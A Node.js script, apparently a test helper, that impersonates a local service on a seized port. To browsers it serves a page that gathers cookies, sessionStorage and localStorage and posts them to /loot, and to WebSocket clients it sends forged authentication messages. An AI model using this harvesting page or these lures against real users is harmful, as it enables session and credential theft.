/**
 * Takes a port and records every byte that comes, as somebody would who waits for an engine to die: to browsers it
 * serves a page that sends back all it finds, to WebSockets it answers as an engine of any version might. Run from
 * standard input as another user; one JSON line per event on standard output. Arguments: port, what to order of hosts.
 */
import { createHash, randomBytes } from 'node:crypto'
import { createServer } from 'node:net'

const [port = '0', order = '{}'] = process.argv.slice(2)
const say = (event) => process.stdout.write(`${JSON.stringify(event)}\n`)
const nonce = () => randomBytes(32).toString('base64url')

const page = `<!doctype html><title>Onward</title><script>
const loot = { url: location.href, cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage } }
fetch('/loot', { method: 'POST', body: JSON.stringify(loot) })
</script>`

const frame = (text) => {
  const body = Buffer.from(text)
  const head =
    body.length < 126 ? Buffer.from([0x81, body.length]) : Buffer.from([0x81, 126, body.length >> 8, body.length & 255])
  return Buffer.concat([head, body])
}
/** Everything an engine says that could make somebody go on. */
const lures = () => [
  { type: 'auth-challenge', nonce: nonce(), proof: nonce() },
  { type: 'auth-ok' },
  { type: 'welcome', version: 1 },
  JSON.parse(order),
]

createServer((socket) => {
  let all = Buffer.alloc(0)
  let whole = Buffer.alloc(0)
  let upgraded = false
  socket.on('error', () => undefined)
  socket.on('close', () => say({ kind: 'connection', base64: whole.toString('base64') }))
  socket.on('data', (bytes) => {
    all = Buffer.concat([all, bytes])
    whole = Buffer.concat([whole, bytes])
    say({ kind: 'bytes', text: all.toString('latin1') })
    if (upgraded) {
      for (const lure of lures()) socket.write(frame(JSON.stringify(lure)))
      return
    }
    const text = all.toString('latin1')
    const end = text.indexOf('\r\n\r\n')
    if (end < 0) return
    const key = /^sec-websocket-key: (.+)$/im.exec(text)?.[1]?.trim()
    if (key) {
      upgraded = true
      const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64')
      socket.write(
        'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n' +
          `Connection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
      )
      say({ kind: 'websocket', path: text.split(' ')[1] })
      all = Buffer.alloc(0)
      return
    }
    const length = Number(/^content-length: (\d+)$/im.exec(text)?.[1] ?? 0)
    if (all.length < end + 4 + length) return
    if (text.startsWith('POST /loot')) say({ kind: 'loot', text: text.slice(end + 4) })
    socket.end(
      'HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: ' +
        `close\r\ncontent-length: ${Buffer.byteLength(page)}\r\n\r\n${page}`,
    )
  })
}).listen(Number(port), '127.0.0.1', () => say({ kind: 'listens', uid: process.getuid?.() }))
